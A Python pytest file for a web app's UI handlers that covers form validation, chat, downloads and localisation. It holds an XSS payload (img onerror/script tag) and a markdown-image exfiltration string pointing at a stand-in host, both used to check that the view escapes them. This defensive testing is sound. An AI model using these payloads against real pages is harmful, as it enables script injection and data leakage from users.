"""The page's handlers called directly: form, chat (offline and streaming LLM), shared session."""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from docx import Document

from assistant.chat.session import Session
from assistant.planners import OfflinePlanner
from assistant.planners.llm import LLMPlanner
from assistant.profile import CHALLENGE_MAX_CHARS
from ui import handlers
from ui.views import PlanView, plan_view
from ui.words import visitor_language

INJECTION = "<img src=x onerror=alert(1)><script>alert(1)</script> departments work in silos"
VIEW = len(PlanView._fields)
SKIP = {"__type__": "update"}
FORM: dict[str, Any] = dict(
    employees=300,
    industry="fashion retail",
    channels=["stores", "ecommerce"],
    challenge="stores and e-commerce compete for the same customers",
    kind="team",
    language="en",
)


def _form(session=None, planner=None, page="en", **changes):
    """Submit the form; the last of the handler's updates."""
    values = {**FORM, **changes}
    return list(handlers.submit_form(planner or OfflinePlanner(), session, page, *values.values()))[-1]


def _chat(planner, session, *messages):
    """Send messages one by one; the last turn's yields."""
    history: list[dict] = []
    for message in messages:
        turns = list(handlers.chat_turn(planner, message, history, session))
        history, session = turns[-1][0], turns[-1][2]
    return turns


def test_form_gives_the_whole_plan_view_then_the_downloads():
    session, _, error, *rest = _form()
    view = PlanView(*rest[:VIEW])
    assert error == "" and session.bundle.team is not None
    assert 'id="org-frame"' in view.org_chart and "<svg" in view.org_chart and 'id="gantt-frame"' in view.gantt
    chosen = session.bundle.team.operating_model.model.value
    assert f'class="chosen">{chosen.capitalize()}' in view.operating_models.replace(" model", "")
    assert view.operating_models.count('class="chosen"') == 7  # header + 6 rows of the chosen column
    assert 'id="risk-matrix"' in view.risks and view.risks.count("<tr><td>R") == len(session.bundle.team.risks)
    assert "is-now" in view.maturity and "is-target" in view.maturity
    assert "Offline plan" in view.status and "Planner: offline" in view.status
    assert "$0.0000" not in view.status and "Tokens" not in view.status  # no bookkeeping noise offline
    assert len(rest) == VIEW
    md, js, docx, pdf = handlers.downloads(session)
    assert handlers.downloads(session) == (md, js, docx, pdf)  # the same plan reuses its files
    assert md.endswith(".md") and js.endswith(".json") and docx.endswith(".docx") and pdf.endswith(".pdf")
    assert session.bundle.team.brief.recommendation in Path(md).read_text(encoding="utf-8")
    assert Document(docx).tables[0].rows[0].cells[0].text == "Role"


def test_a_new_plan_holds_the_download_buttons_until_its_own_files_are_there():
    first = list(handlers.submit_form_on_page(OfflinePlanner(), None, "en", *FORM.values()))[-1]
    session, held = first[0], first[-4:]
    assert [button["interactive"] for button in held] == [False] * 4  # not the previous plan's files
    assert [button["label"] for button in held][-1] == "PDF · preparing…"  # and they say why
    old_files = handlers.downloads(session)
    bad = list(handlers.submit_form_on_page(OfflinePlanner(), session, "en", *{**FORM, "employees": ""}.values()))
    assert bad[-1][-4:] == tuple([SKIP] * 4)  # a form problem leaves the plan and its files as they are
    again = list(handlers.submit_form_on_page(OfflinePlanner(), session, "en", *{**FORM, "employees": 900}.values()))
    session = again[-1][0]
    assert [button["interactive"] for button in again[-1][-4:]] == [False] * 4
    new_files = handlers.downloads(session)
    assert new_files != old_files and "900" in Path(new_files[0]).read_text(encoding="utf-8")
    ready = handlers.enable_downloads(session)
    assert [b["interactive"] for b in ready] == [True] * 4 and [b["label"] for b in ready][0] == "Markdown"
    _chat(OfflinePlanner(), session, "we have 1200 people")
    redrawn = handlers.refresh_on_page(session, again[-1][1])
    assert [button["interactive"] for button in redrawn[-4:]] == [False] * 4
    assert handlers.refresh_on_page(session, redrawn[0])[-4:] == tuple([SKIP] * 4)  # nothing new: left alone


def test_no_plan_no_files():
    assert handlers.downloads(None) == (None, None, None, None)
    assert [button["interactive"] for button in handlers.enable_downloads(None)] == [False] * 4


def test_the_download_buttons_are_enabled_with_a_plan():
    session, *_ = _form()
    assert [button["interactive"] for button in handlers.enable_downloads(session)] == [True] * 4


def test_injection_in_the_challenge_is_escaped_everywhere():
    session, _, error, *rest = _form(challenge=INJECTION)
    view = PlanView(*rest)
    assert error == ""
    assert "&lt;img src=x onerror=alert(1)&gt;&lt;script&gt;" in view.profile
    assert not any("<script" in part or "<img" in part for part in view)


def test_model_text_with_markup_is_shown_as_text():
    session, *_ = _form()
    team = session.bundle.team
    roles = [team.roles[0].model_copy(update={"title": INJECTION}), *team.roles[1:]]
    risks = [team.risks[0].model_copy(update={"mitigation": INJECTION}), *team.risks[1:]]
    kpis = [team.kpis[0].model_copy(update={"name": INJECTION}), *team.kpis[1:]]
    team = team.model_copy(
        update={
            "summary": INJECTION,
            "roles": roles,
            "risks": risks,
            "kpis": kpis,
            "maturity": team.maturity.model_copy(update={"reasons": [INJECTION]}),
        }
    )
    view = plan_view(session.bundle.model_copy(update={"team": team}))
    assert not any("<script" in part or "<img" in part for part in view)
    assert "&lt;script&gt;" in view.risks and "&lt;script&gt;" in view.text and "&lt;script&gt;" in view.kpis
    assert "&lt;script&gt;" in view.maturity


IMAGE = "![x](http://198.51.100.7/leak.png?secret=1)"


def test_model_images_in_plan_text_are_broken_everywhere_in_the_view():
    session, *_ = _form()
    team = session.bundle.team
    kpis = [team.kpis[0].model_copy(update={"name": IMAGE}), *team.kpis[1:]]
    team = team.model_copy(update={"summary": IMAGE, "kpis": kpis})
    view = plan_view(session.bundle.model_copy(update={"team": team}))
    assert not any("![" in part for part in view)
    assert "!\\[x](http://198.51.100.7/leak.png?secret=1)" in view.text and "[x](http://198.51.100.7" in view.kpis


def test_downloads_are_kept_per_browser_session_and_removed_when_it_ends():
    from types import SimpleNamespace

    def request(session_hash: str) -> Any:  # what the handlers read of a gr.Request
        return SimpleNamespace(session_hash=session_hash)

    session, *_ = _form()
    first = handlers.downloads(session, request("first"))
    second = handlers.downloads(session, request("second"))
    folders = {Path(first[0]).parents[1], Path(second[0]).parents[1]}
    assert len(folders) == 2 and all(oct(folder.parents[1].stat().st_mode)[-3:] == "700" for folder in folders)
    handlers.forget_downloads(request("first"))
    assert not Path(first[0]).exists() and Path(second[0]).exists()


def test_a_new_server_removes_the_folders_of_servers_that_are_gone(monkeypatch):
    import subprocess
    import sys

    from ui import downloads as folders

    gone = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    stale = folders.user_root() / gone.stdout.strip() / "some-session" / "plan.md"
    stale.parent.mkdir(parents=True)
    stale.write_text("old plan")
    mine = folders.server_root()
    assert folders.prepare() == mine and not stale.exists() and mine.exists()


def test_too_long_challenge_is_refused_with_a_visible_message_and_the_plan_kept():
    session, *_ = _form()
    plan = session.bundle
    again, drawn, error, *rest = _form(session, challenge="x" * (CHALLENGE_MAX_CHARS + 1))
    assert "“Biggest collaboration challenge” can have at most 1,000 characters; it has 1,001." in error
    assert "Please check the form" in error and 'class="form-problems"' in error
    assert again.bundle is plan and drawn == 1 and all(value == SKIP for value in rest)


def test_a_missing_field_is_named():
    _, _, error, *_ = _form(channels=[])
    assert "Choose at least one channel in “Channels”." in error


@pytest.mark.parametrize(
    ("page", "expected"),
    [
        (
            "en",
            [
                "Please fill in “Employees”.",
                "Please fill in “Industry”.",
                "Choose at least one channel in “Channels”.",
                "Please fill in “Biggest collaboration challenge”.",
            ],
        ),
        (
            "pl",
            [
                "Uzupełnij pole „Liczba pracowników”.",
                "Uzupełnij pole „Branża”.",
                "Wybierz co najmniej jeden kanał w polu „Kanały”.",
                "Uzupełnij pole „Największe wyzwanie we współpracy działów”.",
            ],
        ),
    ],
)
def test_the_untouched_form_says_what_to_fill_in_plain_words_of_the_page(page, expected):
    session, drawn, error, *rest = _form(page=page, employees="", industry="", channels=[], challenge="")
    assert re.findall(r"<li>(.*?)</li>", error) == expected
    assert session.bundle is None and drawn == 0 and all(value == SKIP for value in rest)
    for raw in ("Field required", "String should", "invalid company profile", "less than minimum", "Value error"):
        assert raw not in error


def test_an_industry_of_signs_only_is_asked_for_in_words():
    _, _, error, *_ = _form(industry="???")
    assert re.findall(r"<li>(.*?)</li>", error) == ["Write “Industry” in words."]


def test_a_bad_head_count_and_team_size_are_said_plainly():
    _, _, error, *_ = _form(employees="0", team_size="lots", kind="both")
    assert re.findall(r"<li>(.*?)</li>", error) == [
        "“Employees” needs a whole number from 1 to 5,000,000, e.g. 300, 1 000+ or 50-200.",
        "“Team size” needs a whole number from 1 to 10,000, e.g. 300, 1 000+ or 50-200.",
    ]
    session, _, error, *_ = _form(employees="1 000+")
    assert error == "" and session.bundle.team.profile.employees == 1000


def test_polish_form_gives_a_polish_plan():
    session, _, _, *rest = _form(language="pl", kind="both")
    assert session.bundle.team.language == "pl" and session.bundle.skills is not None
    assert "Planer" in PlanView(*rest).status


def test_chat_in_english_asks_for_what_is_missing_then_plans():
    planner = OfflinePlanner()
    first = _chat(planner, None, "We're a fashion retailer with 300 people.")
    reply, session = first[-1][0][-1]["content"], first[-1][2]
    assert "still need" in reply and "channels" in reply.lower() and "How many people" not in reply
    assert session.bundle is None
    assert handlers.refresh(session, 0)[-VIEW:] == tuple([SKIP] * VIEW)
    turns = list(
        handlers.chat_turn(
            planner,
            "Stores, e-commerce and Allegro. The biggest problem: marketing and stores don't share customer data.",
            first[-1][0],
            session,
        )
    )
    history, box, session, notice = turns[-1]
    assert session.bundle.team is not None and turns[0][1]["value"] == "" and notice == ""
    assert "ready" in history[-1]["content"]
    (
        drawn,
        *form,
    ) = handlers.refresh(session, 0)[:10]
    view = PlanView(*handlers.refresh(session, 0)[10:])
    assert drawn == 1 and "<svg" in view.org_chart
    assert form[:4] == [
        "300",
        "fashion retail",
        ["stores", "ecommerce", "marketplace"],
        "marketing and stores don't share customer data.",
    ]  # the problem, not its lead-in


def test_chat_in_polish_then_a_correction_replans():
    planner = OfflinePlanner()
    turns = _chat(
        planner,
        None,
        "Jesteśmy siecią aptek, 300 osób, apteki stacjonarne i sklep internetowy. Problem: każdy dział ma własne cele.",
    )
    session = turns[-1][2]
    before = session.bundle
    assert before.team.language == "pl" and "Gotowe" in turns[-1][0][-1]["content"]
    turns = list(handlers.chat_turn(planner, "mamy 1200 osób, nie 300", turns[-1][0], session))
    after = turns[-1][2].bundle
    assert after is not before and after.team.profile.employees == 1200
    assert sum(r.fte for r in after.team.roles) > sum(r.fte for r in before.team.roles)
    assert "1\u202f200" in PlanView(*handlers.refresh(session, 1)[10:]).profile


def test_why_question_is_answered_from_the_plan_without_replanning():
    planner = OfflinePlanner()
    turns = _chat(
        planner,
        None,
        FORM["challenge"] + ". We are a fashion retailer, 300 people, stores and e-commerce.",
        "why hybrid?",
    )
    session = turns[-1][2]
    reply = turns[-1][0][-1]["content"]
    om = session.bundle.team.operating_model
    assert om.reasons[0] in reply.replace("&#x27;", "'")
    assert session.revision == 1
    assert handlers.refresh(session, 1)[10:] == tuple([SKIP] * VIEW)  # nothing to redraw


def test_chat_and_form_share_the_session():
    planner = OfflinePlanner()
    session, *_ = _form()
    turns = list(handlers.chat_turn(planner, "add a marketplace channel", [], session))
    assert turns[-1][2].bundle.team.profile.channels[-1].value == "marketplace"
    assert handlers.refresh(session, 1)[3] == ["stores", "ecommerce", "marketplace"]


def test_too_long_chat_message_stays_in_the_box_with_a_one_line_notice():
    history, box, session, notice = list(handlers.chat_turn(OfflinePlanner(), "x" * 2100, [], None))[-1]
    assert history == box == SKIP and session is None  # not sent, not shown, the box keeps the text
    assert "Your message has 2,100 characters; I read at most 2,000." in notice and notice.count("<p") == 1


def test_a_huge_message_is_neither_kept_in_the_history_nor_sent_back_on_later_turns():
    session = Session()
    history, _, session, _ = list(handlers.chat_turn(OfflinePlanner(), "x" * 10_000_000, [], session))[-1]
    assert history == SKIP and session.turns == [] and session.saved == []


def test_the_history_the_page_sends_back_is_bounded(monkeypatch):
    monkeypatch.setenv("OMNITEAM_MAX_CHAT_MESSAGES", "10")
    monkeypatch.setenv("OMNITEAM_MAX_CHAT_MESSAGE_CHARS", "500")
    sent = [{"role": "user" if i % 2 else "assistant", "content": "y" * 100_000} for i in range(1000)]
    history, *_ = list(handlers.chat_turn(OfflinePlanner(), "hello", sent, None))[-1]
    assert len(history) == 10 and all(len(item["content"]) <= 500 for item in history)


def test_at_its_smallest_setting_the_history_keeps_only_the_new_turn(monkeypatch):
    monkeypatch.setenv("OMNITEAM_MAX_CHAT_MESSAGES", "2")
    sent = [{"role": "user", "content": "old"}, {"role": "assistant", "content": "older"}] * 50
    history, *_ = list(handlers.chat_turn(OfflinePlanner(), "hello", sent, None))[-1]
    assert len(history) == 2 and history[0]["content"] == "hello"


def test_a_format_that_cannot_be_made_leaves_the_other_downloads(monkeypatch, tmp_path):
    from assistant.errors import ConfigError
    from ui import views

    def no_font(bundle):
        raise ConfigError("no font for the PDF")

    monkeypatch.setattr("assistant.render.pdf.bundle_pdf", no_font)
    session, *_ = _form()
    md, js, docx, pdf = views.write_downloads(session.bundle, tmp_path)
    assert pdf is None and all(Path(str(p)).stat().st_size > 0 for p in (md, js, docx))


def test_invisible_and_bidi_characters_do_not_hide_a_channel_in_the_chat():
    session = Session()
    list(session.chat("We sell through e\u200bcommerce and sklepy\u202e; 300 employees, fashion", OfflinePlanner()))
    assert session.data["channels"] == ["ecommerce", "stores"]


def test_llm_chat_streams_text_then_the_view_draws_the_finished_plan(llm_settings, fake_openai, monkeypatch):
    monkeypatch.setattr(handlers, "STREAM_INTERVAL", 0)
    planner = LLMPlanner(settings=llm_settings, use_cache=False)
    turns = list(
        handlers.chat_turn(
            planner,
            "We're a fashion retailer, 300 employees, stores and e-commerce; the problem is silos between departments.",
            [],
            None,
        )
    )
    replies = [t[0][-1]["content"] for t in turns]
    progress = [r for r in replies[:-1] if "the model is writing the plan" in r]
    assert progress and "of 11 sections so far — Summary" in progress[-1]  # its progress, named by section
    assert not any('"roles"' in r or '{"' in r for r in replies)  # never the model's raw JSON
    assert all(len(t) == 4 for t in turns)  # streaming updates carry the chat only, never a diagram
    session = turns[-1][2]
    view = PlanView(*handlers.refresh(session, 0)[10:])
    assert "<svg" in view.org_chart and "Made by the AI model gpt-4o-mini." in view.status
    assert "Tokens: 0" not in view.status


def test_streamed_updates_are_throttled(llm_settings, fake_openai):
    planner = LLMPlanner(settings=llm_settings, use_cache=False)
    session = Session()
    turns = list(
        handlers.chat_turn(
            planner,
            "We're a fashion retailer, 300 employees, stores and e-commerce; the problem is silos between departments.",
            [],
            session,
        )
    )
    streamed = list(planner.stream_plan(Session.model_validate({"data": session.data}).profile, "team"))
    assert len(turns) < len(streamed) / 2


def test_llm_fallback_is_labelled_in_the_status(llm_settings, fake_openai):
    from assistant.testing import Reply

    fake_openai.queue(*[Reply(content="{not json")] * 10)
    planner = LLMPlanner(settings=llm_settings, use_cache=False)
    session, _, error, *rest = _form(planner=planner)
    assert session.bundle.team.provenance.fallback
    assert "FALLBACK" in PlanView(*rest).status  # the technical reason, inside the details toggle
    assert 'class="form-notice"' in error and "this is the offline plan" in error


def test_compare_scenarios_needs_a_plan_then_shows_it_beside_the_variant():
    assert "There is no plan yet" in handlers.compare_scenarios(None, "centralized", "")
    session, *_ = _form()
    chosen = session.bundle.team.operating_model.model.value
    table = handlers.compare_scenarios(session, "centralized", "1 200")
    assert f"A: your plan · {chosen} · 300" in table and "B: variant · centralized · 1,200" in table


def test_the_scenarios_speak_the_plans_language_and_number_format():
    session, *_ = _form(language="pl", employees="1200")
    table = handlers.compare_scenarios(session, "centralized", "5000", "en")
    assert "A: twój plan · " in table and " · 1\u202f200" in table
    assert "B: wariant · scentralizowany · 5\u202f000" in table


def test_a_head_count_for_b_that_is_not_a_number_is_said_plainly():
    session, *_ = _form()
    assert 'class="form-problems"' in handlers.compare_scenarios(session, "auto", "many")


def test_file_names_are_transliterated():
    session, *_ = _form(industry="moda i odzież", language="pl")
    assert [Path(p).name for p in handlers.downloads(session)][:2] == [
        "omniteam-moda-i-odziez.md",
        "omniteam-moda-i-odziez.json",
    ]


@pytest.mark.parametrize(
    ("header", "lang"),
    [
        ("pl-PL,pl;q=0.9,en;q=0.8", "pl"),
        ("en-GB,en;q=0.9", "en"),
        ("de-DE,de;q=0.9,pl;q=0.5", "pl"),
        ("fr", "en"),
        (None, "en"),
        ("en;q=0.2, pl;q=0.8", "pl"),
    ],
)
def test_the_visitors_language_comes_from_accept_language(header, lang):
    assert visitor_language(header) == lang


def test_the_language_chosen_for_the_page_wins_over_the_browsers():  # omniteam ui --lang pl, an en-US browser
    from types import SimpleNamespace

    from ui import build_app

    app = build_app(OfflinePlanner(), "pl")
    greet = next(block.fn for block in app.fns.values() if getattr(block.fn, "__name__", "") == "greet")
    assert greet is not None and greet(None, SimpleNamespace(headers={"accept-language": "en-US,en;q=0.9"}))[0] == "pl"


def test_the_page_is_said_in_the_visitors_language_and_a_shown_plan_stays():
    import gradio as gr

    from ui.words import Words

    with gr.Blocks():
        words = Words("en")
        words(gr.Textbox, {"label": "employees", "placeholder": "employees_placeholder"})
        words(gr.Radio, {"label": "kind", "choices": lambda lang: [lang]}, value="team")
    switch, plan_lang, note, box, radio = handlers.say_page(words, "pl", None)
    assert (switch, plan_lang) == ("pl", "pl") and "Nie ma jeszcze planu" in note
    assert box["label"] == "Liczba pracowników" and box["placeholder"] == "np. 300 lub 1000+"
    assert radio["choices"] == ["pl"]
    session, *_ = _form()
    assert handlers.say_page(words, "pl", session)[2] == SKIP  # the drawn plan is not replaced by the note


def test_files_whose_folder_went_away_meanwhile_are_skipped(monkeypatch, tmp_path):
    from ui import views

    session, *_ = _form()
    write = views.write_file

    def gone(path, content, **options):  # the page is closed (its folder removed) while a file is written
        shutil.rmtree(path.parent, ignore_errors=True)
        return write(path, content, **options)

    monkeypatch.setattr(views, "write_file", gone)
    assert views.write_downloads(session.bundle, tmp_path) == (None, None, None, None)
